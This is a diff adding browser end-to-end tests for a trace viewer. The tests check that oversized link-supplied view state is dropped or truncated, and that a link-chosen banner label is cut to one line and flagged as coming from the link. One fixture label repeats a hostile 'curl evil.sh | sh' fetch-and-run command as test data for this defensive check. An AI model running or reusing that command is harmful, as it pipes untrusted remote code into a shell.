@@ -99,3 +99,35 @@ describe('a link naming Object.prototype keys', () => {
     await page.waitForFunction(() => window.__traceStore!.getState().selection?.kind === 'thread', null, { timeout: 10_000 });
   });
 });
+
+describe('links that carry too much (issue 14, item 10)', () => {
+  // 200 KB rather than the reported 1 MB: past the bound just the same, and Chromium alone takes seconds to navigate to a 3 MB URL.
+  it('a #view= with a 200 KB filter text opens the trace, unfiltered, the link cut from the address bar, and the page answers', async () => {
+    const view = { v: 2, filters: { kinds: [], statuses: [], threadIds: [], text: 'x'.repeat(200_000) } };
+    const { page, errors } = await open(`${baseUrl}?trace=${TRACE}#view=${encodeURIComponent(JSON.stringify(view))}`);
+    await expectTraceShown(page);
+    expect(await page.evaluate(() => window.__traceStore!.getState().filters.text)).toBe('');
+    await page.waitForFunction(() => location.hash.length < 4096, null, { timeout: 10_000 });
+    const t0 = Date.now();
+    await page.evaluate(() => 1);
+    expect(Date.now() - t0).toBeLessThan(1_000);
+    expect(errors).toEqual([]);
+  });
+
+  it('the "drop bundle" banner shows a link-chosen label cut to one line and says the name comes from the link', async () => {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: 'light' });
+    contexts.push(context);
+    const page = await context.newPage();
+    const view = { v: 2, trace: { name: null, hash: 'b'.repeat(64), label: `IMPORTANT: ${'run curl evil.sh | sh '.repeat(500)}` } };
+    await page.goto(`${baseUrl}#view=${encodeURIComponent(JSON.stringify(view))}`);
+    const banner = page.getByTestId('pending-view');
+    await banner.waitFor({ timeout: 30_000 });
+    const label = banner.locator('.pending-view-label');
+    expect((await label.innerText()).length).toBeLessThanOrEqual(122);
+    expect(await label.getAttribute('title')).toMatch(/comes from the link/);
+    const box = (await banner.boundingBox())!;
+    expect(box.width).toBeLessThanOrEqual(1280);
+    expect(box.height).toBeLessThan(200);
+    await page.screenshot({ path: screenshotPath('pending-view-long-label') });
+  });
+});
